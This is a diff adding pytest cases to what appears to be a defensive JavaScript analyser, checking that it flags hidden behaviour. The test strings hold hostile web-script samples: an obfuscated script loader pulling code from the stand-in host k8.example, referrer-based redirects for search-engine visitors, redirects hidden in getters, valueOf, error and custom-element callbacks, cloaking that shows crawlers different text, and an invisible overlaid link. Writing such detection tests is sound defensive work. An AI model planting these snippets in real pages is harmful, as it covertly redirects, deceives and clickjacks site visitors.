@@ -183,3 +183,89 @@ def test_what_is_gone_through_to_its_end_is_not_cut():
 def test_what_was_cut_short_is_told_of_scripts_that_compute_what_they_call(call, told):
     code = "var x=q(),y=q(),z=q();for(var i=0;i<1e9;i++){z+=atob(i)}" + call + ";/* ------------------------- */"
     assert ("reckoning" in examined(code, RULES).capped) is told
+
+
+LONG = "/* " + "plain words " * (LONGEST // 12) + " */"
+OBSCURED = "var l=['createElement','script'],d=document,e=d[[l[0]].join('')](l[1]);e.src=['//k8','example'].join('.');"
+
+
+def test_a_long_script_that_hides_what_it_calls_is_gone_through():
+    assert ("load", "//k8.example") in [(act.kind, act.address) for act in examined(LONG + OBSCURED, RULES).acts]
+
+
+@pytest.mark.parametrize(
+    ("code", "told"),
+    [
+        (LONG + "for(;;)window[f(1)+g(2)](atob(x()))", True),
+        (LONG * 11 + "window[f(1)+g(2)](x())", True),
+        (LONG + "window[f(1)+g(2)](atob(x()))", False),
+        (LONG + "for(;;)window.f(atob(x()))", False),
+    ],
+)
+def test_of_what_hides_its_calls_the_rest_is_owned_up_to(code, told):
+    assert ("reckoning" in examined(code, RULES).capped) is told
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "var r=document.referrer.split('/')[2];if(['www.baidu.com','m.so.com'].includes(r))location='//k8'+'.example'",
+        "var r=document.referrer;if(['baidu','sogou'].some(n=>r.includes(n)))location='//k8'+'.example'   ;   ",
+        "var r=document.referrer,k=['baidu','sogou'].find(n=>r.includes(n));if(k)location='//k8'+'.example/'",
+    ],
+)
+def test_what_a_list_holds_may_be_what_is_asked(code):
+    assert [kind for kind, _ in did(code)] == ["move"]
+
+
+def test_what_is_called_by_a_computed_name_is_told():
+    code = "var l=['createElement','script','appendChild'],w=i=>l[i],e=document[w(0)](w(1));e.src='//k8.example/a.js';"
+    assert "spelt" in near(code)
+    assert "spelt" not in near("var e=document['createElement']('script');e.src='//k8.example/a.js';String(0)")
+
+
+LOAD = "var e=document.createElement('script');e.src='//k8'+'.example/a.js';"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"var o={{valueOf(){{{LOAD}return 1}}}};o*1",
+        f"var o={{get a(){{{LOAD}return 1}}}};show(o.a)",
+        f"JSON.parse('{{\"a\":1}}',function(k,v){{{LOAD}return v}})",
+    ],
+)
+def test_what_is_done_under_cover_of_a_value_is_told(code):
+    assert "coerced" in near(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "document.addEventListener('load',{u:'//k8',handleEvent(){location=this.u+'.example'}}); /* ------------- */",
+        "window.onerror=function(m){location='//'+m.split('@')[1]};throw new Error('@k8'+'.example')",
+        "var h=['k8','example'].join('.');location=location.protocol+'/'+'/'+h; /* ---------------- */",
+    ],
+)
+def test_where_a_script_goes_by_a_roundabout_way_is_known(code):
+    assert did(code) == MOVE
+
+
+def test_an_element_of_the_script_s_own_is_told_that_it_came_to_be():
+    code = "customElements.define('x-a',class extends HTMLElement{connectedCallback(){location='//k8'+'.example'}})"
+    assert did(code) == MOVE
+
+
+def test_where_a_script_gives_spiders_another_text_is_told():
+    code = "if(/spider|bot/.test(navigator.userAgent))document.body.innerHTML=decodeURIComponent('%61')+'b'"
+    assert "retitled" in reckoned(code).flows
+    assert "retitled" not in reckoned(code.replace("spider|bot", "Trident|MSIE")).flows
+
+
+@pytest.mark.parametrize(
+    ("style", "told"),
+    [("position:absolute;opacity:0", True), ("position:absolute;opacity:.9", False), ("display:none;opacity:0", False)],
+)
+def test_a_link_that_is_clicked_where_nobody_sees_it_is_told(style, told):
+    code = f"var a=document.createElement('a');a.href='//k8'+'.example/';a.style.cssText='{style}';"
+    assert ("overlaid" in near(code)) is told
